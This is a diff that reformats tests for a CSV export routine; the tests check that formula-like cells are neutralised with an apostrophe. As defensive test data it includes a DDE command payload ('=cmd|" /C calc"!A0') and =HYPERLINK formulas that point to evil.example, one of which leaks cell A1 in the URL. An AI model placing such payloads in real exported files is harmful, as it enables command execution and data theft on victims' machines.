@@ -4,7 +4,6 @@ import type { EnquiryRecord } from '../enquiries/enquiry';
 import { parseCsv } from '../../tests/support/csv';
 import { sampleRecord } from '../../tests/support/records';
 
-
 const record: EnquiryRecord = sampleRecord(12, {
   NAME: '김민수',
   EMAIL: 'minsu@example.com',
@@ -36,11 +35,14 @@ describe('csvCell', () => {
     expect(parseCsv(csvLine(['a, b', 'x\r\ny', 'q"q']))).toEqual([['a, b', 'x\r\ny', 'q"q']]);
   });
 
-  it.each(['=1+1', '+1', '-1', '@SUM(A1:A2)', '\tcmd', '\rcmd', '=cmd|" /C calc"!A0'])('prefixes %j with an apostrophe', (text) => {
-    const cell = csvCell(text);
-    expect(cell.startsWith(`"'`)).toBe(true);
-    expect(parseCsv(cell)[0]?.[0]).toBe(`'${text}`);
-  });
+  it.each(['=1+1', '+1', '-1', '@SUM(A1:A2)', '\tcmd', '\rcmd', '=cmd|" /C calc"!A0'])(
+    'prefixes %j with an apostrophe',
+    (text) => {
+      const cell = csvCell(text);
+      expect(cell.startsWith(`"'`)).toBe(true);
+      expect(parseCsv(cell)[0]?.[0]).toBe(`'${text}`);
+    },
+  );
 
   it('makes a =HYPERLINK name harmless', () => {
     const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
@@ -140,7 +142,8 @@ describe('enquiryCsvLine', () => {
   });
 
   it('writes the tags in one cell, in the order added, each guarded like any text', () => {
-    const tagsCell = (tags?: readonly string[]) => parseCsv(enquiryCsvLine({ ...record, ...(tags ? { TAGS: tags } : {}) }))[0]?.at(-1);
+    const tagsCell = (tags?: readonly string[]) =>
+      parseCsv(enquiryCsvLine({ ...record, ...(tags ? { TAGS: tags } : {}) }))[0]?.at(-1);
     expect(tagsCell(['VIP', '보험', 'follow up'])).toBe('VIP, 보험, follow up');
     expect(tagsCell(['=HYPERLINK("http://evil.example")'])).toBe(`'=HYPERLINK("http://evil.example")`);
     expect(tagsCell([])).toBe('');
@@ -158,14 +161,17 @@ describe('enquiryCsvLine', () => {
   });
 
   it('writes the contact channel and account, the account guarded like a phone number', () => {
-    const row = parseCsv(enquiryCsvLine({ ...record, CONTACT_CHANNEL: 'whatsapp', CONTACT_ACCOUNT: '+7 900 123-45-67' }))[0];
+    const row = parseCsv(
+      enquiryCsvLine({ ...record, CONTACT_CHANNEL: 'whatsapp', CONTACT_ACCOUNT: '+7 900 123-45-67' }),
+    )[0];
     expect(row?.slice(14, 16)).toEqual(['whatsapp', '="+7 900 123-45-67"']);
     const telegram = parseCsv(enquiryCsvLine({ ...record, CONTACT_CHANNEL: 'telegram', CONTACT_ACCOUNT: '@anna' }))[0];
     expect(telegram?.[15]).toBe("'@anna");
   });
 
   it('keeps a header and rows together as a file of equal rows that survives UTF-8 encoding', () => {
-    const file = csvHeader() + enquiryCsvLine(record) + enquiryCsvLine({ ...record, NAME: '=1+2', HOTEL: 'Line 1\nLine 2' });
+    const file =
+      csvHeader() + enquiryCsvLine(record) + enquiryCsvLine({ ...record, NAME: '=1+2', HOTEL: 'Line 1\nLine 2' });
     const decoded = Buffer.from(file, 'utf8').toString('utf8');
     const rows = parseCsv(decoded.slice(1));
     expect(rows).toHaveLength(3);
